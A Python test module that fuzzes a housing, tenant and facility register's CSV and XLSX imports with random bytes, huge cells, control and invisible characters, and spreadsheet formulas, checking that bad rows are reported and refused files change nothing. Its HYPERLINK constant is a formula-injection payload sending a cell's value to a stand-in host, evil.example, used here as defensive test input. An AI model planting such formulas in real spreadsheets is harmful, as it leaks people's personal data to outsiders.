"""Bad input to every upload and import (issue 8): random bytes, huge cells, formulas such as
`=HYPERLINK(...)`, control characters and right-to-left marks, as CSV and as XLSX.

Nothing crashes: a file that is no usable table is refused as a whole with the project's own
message and leaves the database as it was; otherwise each bad row is reported by its line and
exactly the good rows are kept. Every example runs in the test's database and is rolled back,
so the next one starts from the same records.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from datetime import UTC, date, datetime
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from shared.core.errors import DomainError
from shared.core.tables import Table, read_table
from shared.core.validate_text import has_hidden_chars
from shared.facilities.upload import import_facilities
from shared.housing.people import find_person_by_id_number
from shared.housing.register_import import import_housing
from shared.models import Base, Building, DoorPlate, Facility, Person, RecordStatus, Room
from shared.self_service.landlord_upload import parse_tenant_upload
from tests.core.test_properties_validators import HAN, junk
from tests.factories import (
    HOUSING_HEADERS_ZH,
    HOUSING_OWNER_ID,
    facility_row,
    housing_row,
    make_building,
    make_id_number,
    make_plate,
    make_room,
    make_street,
    table_csv,
    table_xlsx,
    wrong_check_digit,
)

TODAY = date(2026, 11, 25)
NOW = datetime(2026, 11, 25, 2, 0, tzinfo=UTC)
DB_SETTINGS = settings(max_examples=25, suppress_health_check=[HealthCheck.function_scoped_fixture])
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&B2,"点击查看")'
RTL, ISOLATE, ZERO_WIDTH = "\u202e", "\u2066", "\u200b"

# A row is good (None) or spoiled in one column by one of its known-bad values (column, index).
Plan = list[tuple[str, int] | None]


def plans(bad: dict[str, Sequence[str]]) -> st.SearchStrategy[Plan]:
    spoiled = st.tuples(st.sampled_from(sorted(bad)), st.integers(0, 99))
    return st.lists(st.one_of(st.none(), spoiled), min_size=1, max_size=6)


def build_file(rows: list[dict[str, str]], fmt: str) -> bytes:
    """CSV, or XLSX as a spreadsheet keeps it (a cell starting with = is a formula there)."""
    if fmt == "csv":
        return table_csv(rows)
    headers = list(rows[0])
    return table_xlsx([headers, *[[r[h] for h in headers] for r in rows]])


@contextmanager
def rolled_back(session: Session) -> Iterator[None]:
    """One example's changes undone after it, also when it fails, so the next starts afresh."""
    try:
        yield
    finally:
        session.rollback()


def table_counts(session: Session) -> dict[str, int]:
    return {
        t.name: session.execute(select(func.count()).select_from(t)).scalar_one()
        for t in Base.metadata.sorted_tables
    }


def assert_row_errors(errors: Sequence[Any], expected_lines: set[int]) -> None:
    assert {e.line for e in errors} == expected_lines
    for error in errors:
        assert error.column and HAN.search(error.message_zh) and error.message_en
        assert len(error.message_zh) < 1000 and len(error.message_en) < 1000


# -- reading tables --------------------------------------------------------------------------------


def read_or_refuse(data: bytes, filename: str) -> Table | None:
    try:
        return read_table(data=data, filename=filename)
    except DomainError as error:
        assert filename in error.message_zh and filename in error.message_en
        assert error.message_en.startswith(f"File {filename} cannot be imported: ")
        return None


@given(st.one_of(st.binary(max_size=300), st.binary(max_size=300).map(lambda b: b"PK\x03\x04" + b)))
@settings(max_examples=100)
def test_random_bytes_are_a_table_or_refused_with_one_message(data: bytes) -> None:
    read_or_refuse(data, "upload.bin")


@given(
    st.lists(st.lists(junk, min_size=1, max_size=4), min_size=1, max_size=5),
    st.sampled_from(["utf-8-sig", "gb18030", "utf-16"]),
)
@settings(max_examples=60)
def test_csv_with_junk_cells_is_read_or_refused(cells: list[list[str]], encoding: str) -> None:
    headers = [f"列{i}" for i in range(max(len(r) for r in cells))]
    rows = [dict(zip(headers, r, strict=False)) for r in cells]
    table = read_or_refuse(table_csv(rows, headers, encoding=encoding), "junk.csv")
    if table is not None:
        assert table.headers == tuple(headers)
        assert len(table.rows) <= len(rows)


printable_cells = st.one_of(
    st.text(alphabet=st.characters(codec="utf-8", categories=["L", "N", "P", "S", "Zs"]), max_size=30)
    .map(str.strip)
    .filter(bool),
    st.sampled_from(["=", "=1+1", HYPERLINK, "#N/A", "'=1", "+1", "@x"]),
)


@given(st.lists(st.lists(printable_cells, min_size=3, max_size=3), min_size=1, max_size=5), st.booleans())
@settings(max_examples=40)
def test_what_a_spreadsheet_holds_is_read_back_and_formulas_are_never_run(
    cells: list[list[str]], as_xlsx: bool
) -> None:
    """A text cell reads back as typed. In XLSX a cell starting with = is a formula, and it is read
    as its last computed value (none, for a file no spreadsheet has computed), never evaluated."""
    headers = ["甲", "乙", "丙"]
    rows = [dict(zip(headers, r, strict=True)) for r in cells]
    table = read_or_refuse(build_file(rows, "xlsx" if as_xlsx else "csv"), "t.xlsx" if as_xlsx else "t.csv")

    def shown(value: str) -> str:  # openpyxl writes "=" + more as a formula, like Excel
        return "" if as_xlsx and len(value) > 1 and value.startswith("=") else value

    expected = [{h: shown(v) for h, v in r.items()} for r in rows if any(map(shown, r.values()))]
    assert ([dict(row.cells) for row in table.rows] if table else []) == expected


def test_a_cell_larger_than_the_csv_modules_limit_is_the_rows_problem_not_the_files() -> None:
    data = table_csv([{"姓名": "张" * 200_000, "房号": "301"}, {"姓名": "李四", "房号": "302"}])
    table = read_table(data=data, filename="huge.csv")
    assert [len(r.get("姓名")) for r in table.rows] == [200_000, 2]


# -- landlord's tenant list ------------------------------------------------------------------------

TENANT_HEADERS = ("房号", "姓名", "性别", "民族", "出生日期", "证件类型", "证件号码", "联系电话", "户籍地址",
                  "工作单位", "入住日期", "居住事由")  # fmt: skip


TENANT_BAD: dict[str, Sequence[str]] = {
    "房号": ["", "9999", HYPERLINK, "3" * 5000, "301" + RTL],
    "姓名": ["", "张" + RTL + "三", "王" + ISOLATE + "强", "李" + ZERO_WIDTH + "娜", HYPERLINK, "@SUM(A1)",
             "张" * 81, "=1+1"],
    "证件号码": ["", wrong_check_digit(make_id_number("430102", "19900115", "777")), "=1+1", "4" * 5000,
                 "4.30102E+17"],
    "联系电话": ["", "123", HYPERLINK, "1" * 5000],
    "户籍地址": ["湖南省" + RTL + "长沙市", "湖" * 201],  # left blank it is the number's region
    "入住日期": ["", "2026-13-45", "=TODAY()", "9" * 5000, "2030-01-01"],
    "民族": ["火星族", "汉" * 3000],
}  # fmt: skip


def tenant_row(index: int) -> dict[str, str]:
    """A good row; each line has its own document number, so no two rows are duplicates."""
    values = (("301", "302", "401")[index % 3], ("王强", "李娜", "Nguyễn Văn An", "买买提·艾力")[index % 4],
              "", "汉", "", "居民身份证", make_id_number("430102", "19900115", f"{index:03d}"),
              f"138{index:08d}", "湖南省长沙市", "", "2026-10-01", "务工")  # fmt: skip
    return dict(zip(TENANT_HEADERS, values, strict=True))


@pytest.fixture
def rental_plate(session: Session) -> DoorPlate:
    plate = make_plate(session, code="4419001262000009")
    building = make_building(session, plate=plate)
    for number in ("301", "302", "401"):
        make_room(session, building=building, number=number, is_rental=True)
    session.commit()
    return plate


def parse_upload(session: Session, plate: DoorPlate, data: bytes, filename: str) -> Any:
    return parse_tenant_upload(session, plate_code=plate.code, data=data, filename=filename, today=TODAY)


@given(plans(TENANT_BAD), st.sampled_from(["csv", "xlsx"]))
@DB_SETTINGS
def test_a_tenant_list_keeps_exactly_its_good_rows(
    session: Session, rental_plate: DoorPlate, plan: Plan, fmt: str
) -> None:
    rows = []
    for index, spoiled in enumerate(plan):
        row = tenant_row(index)
        if spoiled is not None:
            column, choice = spoiled
            row[column] = TENANT_BAD[column][choice % len(TENANT_BAD[column])]
        rows.append(row)
    with rolled_back(session):
        result = parse_upload(session, rental_plate, build_file(rows, fmt), f"tenants.{fmt}")
        good = [rows[i]["证件号码"] for i, spoiled in enumerate(plan) if spoiled is None]
        assert [t.person.id_number for t in result.tenants] == good
        assert_row_errors(result.errors, {i + 2 for i, spoiled in enumerate(plan) if spoiled is not None})
        assert result.rows_read == len(rows)


@given(st.lists(st.dictionaries(st.sampled_from(TENANT_HEADERS), junk, max_size=3), min_size=1, max_size=4))
@DB_SETTINGS
def test_a_tenant_list_with_junk_anywhere_is_read_or_refused_and_good_tenants_are_clean(
    session: Session, rental_plate: DoorPlate, junk_cells: list[dict[str, str]]
) -> None:
    rows = [{**tenant_row(i), **cells} for i, cells in enumerate(junk_cells)]
    try:
        result = parse_upload(session, rental_plate, table_csv(rows), "junk.csv")
    except DomainError as error:
        assert "junk.csv" in error.message_zh and "junk.csv" in error.message_en
        return
    assert len(result.tenants) + len({e.line for e in result.errors}) == result.rows_read
    for tenant in result.tenants:
        person = tenant.person
        for text, limit in ((person.name, 80), (person.hukou_address, 200), (person.employer, 120)):
            assert len(text) <= limit and not has_hidden_chars(text)


# -- housing register --------------------------------------------------------------------------------

HOUSING_BAD: dict[str, Sequence[str]] = {
    "门牌编码": ["", "P-NOPE", "P-OLD", "P-" + ZERO_WIDTH + "A", "P" * 40, HYPERLINK],
    "楼栋名称": ["楼" + RTL + "栋", "楼" * 81, "A" + ISOLATE],
    "房号": ["", "1" * 21, "30" + ISOLATE + "1", "1" + ZERO_WIDTH],
    "楼层": ["1" * 5000, "abc", "999", "-" + "9" * 30],
    "面积": ["-1", "nan", "inf", "1" * 400, "1e999"],
    "用途": ["火箭发射", HYPERLINK, "用" * 3000],
    "是否出租": ["", "maybe"],
    "业主姓名": ["", HYPERLINK, "陈" + RTL + "大文", "陈" * 81],
    "业主证件号码": ["", wrong_check_digit(HOUSING_OWNER_ID), "=1+1", "4.41900197E+17", "4" * 5000],
    "业主电话": ["123", "1" * 5000, "138" + RTL + "00138000"],
}  # fmt: skip


@pytest.fixture
def housing_plates(session: Session) -> None:
    street = make_street(session, name="麻涌大道")
    make_plate(session, code="P-A", street=street, number="1")
    make_plate(session, code="P-OLD", street=street, number="3", status=RecordStatus.RETIRED)
    session.commit()


def import_register(session: Session, data: bytes, filename: str) -> Any:
    return import_housing(session, data=data, filename=filename, actor="officer1", today=TODAY)


@given(plans(HOUSING_BAD), st.sampled_from(["csv", "xlsx"]))
@DB_SETTINGS
def test_a_housing_register_saves_exactly_its_good_rows(
    session: Session, housing_plates: None, plan: Plan, fmt: str
) -> None:
    rows = []
    for index, spoiled in enumerate(plan):
        row = housing_row(房号=str(101 + index))
        if spoiled is not None:
            column, choice = spoiled
            row[column] = HOUSING_BAD[column][choice % len(HOUSING_BAD[column])]
        rows.append(row)
    good = [rows[i]["房号"] for i, spoiled in enumerate(plan) if spoiled is None]
    with rolled_back(session):
        report = import_register(session, build_file(rows, fmt), f"register.{fmt}")
        assert sorted(session.scalars(select(Room.number))) == sorted(good)
        assert session.scalar(select(func.count()).select_from(Building)) == (1 if good else 0)
        assert session.scalar(select(func.count()).select_from(Person)) == (1 if good else 0)
        assert report.rows_imported == len(good) and report.rows_read == len(rows)
        assert_row_errors(report.errors, {i + 2 for i, spoiled in enumerate(plan) if spoiled is not None})


@given(
    st.lists(st.dictionaries(st.sampled_from(HOUSING_HEADERS_ZH), junk, max_size=3), min_size=1, max_size=4)
)
@DB_SETTINGS
def test_a_housing_register_with_junk_anywhere_saves_only_clean_records(
    session: Session, housing_plates: None, junk_cells: list[dict[str, str]]
) -> None:
    rows = [{**housing_row(房号=str(101 + i)), **cells} for i, cells in enumerate(junk_cells)]
    before = table_counts(session)
    with rolled_back(session):
        try:
            report = import_register(session, table_csv(rows), "junk.csv")
        except DomainError:
            assert table_counts(session) == before and not session.new
            return
        assert report.rows_imported + len({e.line for e in report.errors}) == report.rows_read
        assert session.scalar(select(func.count()).select_from(Room)) == report.rows_imported
        session.flush()  # on PostgreSQL, a value its columns cannot hold would fail here
        for room in session.scalars(select(Room)):
            assert 0 < len(room.number) <= 20 and not has_hidden_chars(room.number)
            assert len(room.building.name) <= 80 and not has_hidden_chars(room.building.name)


# -- facility register ---------------------------------------------------------------------------------

FACILITY_BAD: dict[str, Sequence[str]] = {
    "设施大类": ["", "火箭", HYPERLINK, "1" * 5000],
    "设施小类": ["", "junk", "101" + RTL],
    "设施名称": ["", "消" + RTL + "火栓", "消" * 121, "消火栓" + ZERO_WIDTH],
    "经度": ["abc", "1" * 5000, "200", "113.58" + ISOLATE],
    "纬度": ["x", "", "-" * 40],
    "门牌编码": ["NOPE", "P" + ZERO_WIDTH + "1", "P" * 40],
    "责任部门": ["", "部" + ISOLATE + "门", "部" * 81],
    "联系电话": ["", "123", "1" * 5000],
}


def facility(index: int) -> dict[str, str]:
    return facility_row(设施名称=f"麻一村消火栓{index + 1}号", 经度=f"{113.581 + index / 1000:.3f}")


@given(plans(FACILITY_BAD), st.sampled_from(["csv", "xlsx"]))
@DB_SETTINGS
def test_a_facility_register_saves_exactly_its_good_rows(session: Session, plan: Plan, fmt: str) -> None:
    rows = []
    for index, spoiled in enumerate(plan):
        row = facility(index)
        if spoiled is not None:
            column, choice = spoiled
            row[column] = FACILITY_BAD[column][choice % len(FACILITY_BAD[column])]
        rows.append(row)
    good = [rows[i]["设施名称"] for i, spoiled in enumerate(plan) if spoiled is None]
    with rolled_back(session):
        data = build_file(rows, fmt)
        report = import_facilities(session, data=data, filename=f"f.{fmt}", actor="d", now=NOW)
        assert sorted(session.scalars(select(Facility.name))) == sorted(good)
        assert report.created == len(good) and report.rows_read == len(rows)
        assert_row_errors(report.errors, {i + 2 for i, spoiled in enumerate(plan) if spoiled is not None})


# -- a file that is refused changes nothing ---------------------------------------------------------------

Importer = Callable[[Session, bytes, str], object]
IMPORTERS: dict[str, Importer] = {
    "housing": import_register,
    "facilities": lambda s, d, f: import_facilities(s, data=d, filename=f, actor="d", now=NOW),
    "tenants": lambda s, d, f: parse_tenant_upload(
        s, plate_code="4419001262000009", data=d, filename=f, today=TODAY
    ),
}
not_tables = st.one_of(
    st.binary(max_size=200),
    st.sampled_from([b"", b"\xef\xbb\xbf", "房号,姓名\n".encode(), b"%PDF-1.7\n", b"PK\x03\x04junk"]),
    st.lists(junk, min_size=1, max_size=3).map(
        lambda cells: ",".join(c.replace(",", "") for c in cells).encode()
    ),
)


@pytest.mark.parametrize("what", sorted(IMPORTERS))
@given(data=not_tables)
@DB_SETTINGS
def test_a_file_that_is_no_usable_table_leaves_the_database_unchanged(
    session: Session, rental_plate: DoorPlate, housing_plates: None, what: str, data: bytes
) -> None:
    before = table_counts(session)
    with rolled_back(session):
        with pytest.raises(DomainError) as caught:
            IMPORTERS[what](session, data, "upload.csv")
        session.flush()  # anything added before the refusal would be written now
        assert table_counts(session) == before
    assert HAN.search(caught.value.message_zh) and caught.value.message_en


# -- control characters the CSV reader lets through ------------------------------------------------------

# The reader refuses a CSV with control characters in its first 64 KiB as "not a text table"; one
# further down reaches the rows. A remarks column (ignored by every importer) pushes it there.
REMARKS = "备注" * 40_000


@pytest.mark.parametrize("column", ["门牌编码", "楼栋名称", "房号", "业主姓名"])
@pytest.mark.parametrize("char", ["\x00", "\x1f", "\x07"])
def test_a_control_character_deep_in_a_housing_csv_is_its_rows_problem(
    session: Session, housing_plates: None, column: str, char: str
) -> None:
    """PostgreSQL refuses NUL in any text, even in a query: it must never get that far."""
    rows = [
        {**housing_row(楼栋名称="一号楼"), "备注": REMARKS},
        {**housing_row(房号="302", 楼栋名称="一号楼"), "备注": ""},
    ]
    rows[1][column] = rows[1][column][:1] + char + rows[1][column][1:]
    report = import_register(session, table_csv(rows), "deep.csv")
    session.flush()
    assert [(e.line, e.column) for e in report.errors] == [(3, column)]
    assert "control or invisible characters" in report.errors[0].message_en
    assert list(session.scalars(select(Room.number))) == ["301"]


@pytest.mark.parametrize("column", ["设施名称", "门牌编码", "责任部门", "设施大类"])
def test_a_control_character_deep_in_a_facility_csv_is_its_rows_problem(
    session: Session, column: str
) -> None:
    rows = [{**facility(0), "备注": REMARKS}, {**facility(1), "备注": ""}]
    text = rows[1][column] or "P1"  # a point, and a plate code as well
    rows[1][column] = text[:1] + "\x00" + text[1:]
    report = import_facilities(session, data=table_csv(rows), filename="deep.csv", actor="d", now=NOW)
    session.flush()
    assert [(e.line, e.column) for e in report.errors] == [(3, column)]
    assert list(session.scalars(select(Facility.name))) == ["麻一村消火栓1号"]


@pytest.mark.parametrize("column", ["姓名", "户籍地址", "工作单位", "房号"])
def test_a_control_character_deep_in_a_tenant_csv_is_its_rows_problem(
    session: Session, rental_plate: DoorPlate, column: str
) -> None:
    rows = [{**tenant_row(0), "备注": REMARKS}, {**tenant_row(1), "备注": "", "工作单位": "某厂"}]
    rows[1][column] = rows[1][column][:1] + "\x00" + rows[1][column][1:]
    result = parse_upload(session, rental_plate, table_csv(rows), "deep.csv")
    assert [(e.line, e.column) for e in result.errors] == [(3, column)]
    assert [t.person.name for t in result.tenants] == ["王强"]


HMT_REGIONS = ("810000", "820000", "830000")
OWNER_DOCUMENTS = st.tuples(
    st.sampled_from([*HMT_REGIONS, "441900", "430102"]),
    st.dates(date(1930, 1, 1), date(2005, 12, 31)),
    st.integers(0, 999),
    st.sampled_from(["blank", "right", "wrong"]),
)


@given(st.lists(OWNER_DOCUMENTS, min_size=1, max_size=5))
@DB_SETTINGS
def test_a_housing_register_reads_a_blank_document_type_from_the_number_and_refuses_a_wrong_one(
    session: Session, housing_plates: None, owners: list[tuple[str, date, int, str]]
) -> None:
    """Blank: 港澳台居民居住证 (02) for region 810000/820000/830000, else 居民身份证 (01); a type
    that contradicts the number is that row's problem, on the number's column."""
    rows, expected = [], []
    for index, (region, born, sequence, typed) in enumerate(owners):
        number = make_id_number(region, born.strftime("%Y%m%d"), f"{sequence:03d}")
        right = "02" if region in HMT_REGIONS else "01"
        cell = {"blank": "", "right": right, "wrong": "01" if right == "02" else "02"}[typed]
        rows.append(housing_row(楼栋名称=f"{index + 1}栋", 业主证件类型=cell, 业主证件号码=number))
        expected.append((number, right, typed != "wrong"))
    with rolled_back(session):
        report = import_register(session, table_csv(rows), "register.csv")
        assert report.rows_imported == sum(ok for _, _, ok in expected)
        refused = {i + 2 for i, (_, _, ok) in enumerate(expected) if not ok}
        assert {(e.line, e.column) for e in report.errors} == {(line, "业主证件号码") for line in refused}
        for number, right, ok in expected:
            if ok:
                person = find_person_by_id_number(session, id_type=right, id_number=number)
                assert person is not None and person.birth_date is not None
